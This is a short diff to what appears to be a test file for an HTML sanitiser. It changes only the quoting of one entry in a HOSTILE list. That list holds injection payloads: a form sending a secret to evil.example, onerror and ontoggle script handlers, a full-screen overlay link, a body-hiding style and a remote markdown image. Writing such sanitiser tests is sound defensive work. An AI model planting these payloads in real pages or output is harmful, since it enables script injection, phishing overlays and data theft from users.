@@ -18,7 +18,7 @@ HOSTILE = (
     '<form action="https://evil.example/"><input name="secret"><button>Send</button></form>',
     '<img src="https://evil.example/x.png" onerror="window.stolen = 1">',
     '<svg><a href="https://evil.example/"><rect width="9999" height="9999" style="position:fixed"/></a></svg>',
-    '<math><mtext><style>body { display: none }</style></mtext></math>',
+    "<math><mtext><style>body { display: none }</style></mtext></math>",
     "<details open ontoggle='window.stolen = 1'><summary>x</summary></details>",
     '<div id="question" class="hostile" style="position:fixed">x</div>',
     "![picture](https://evil.example/p.png)",
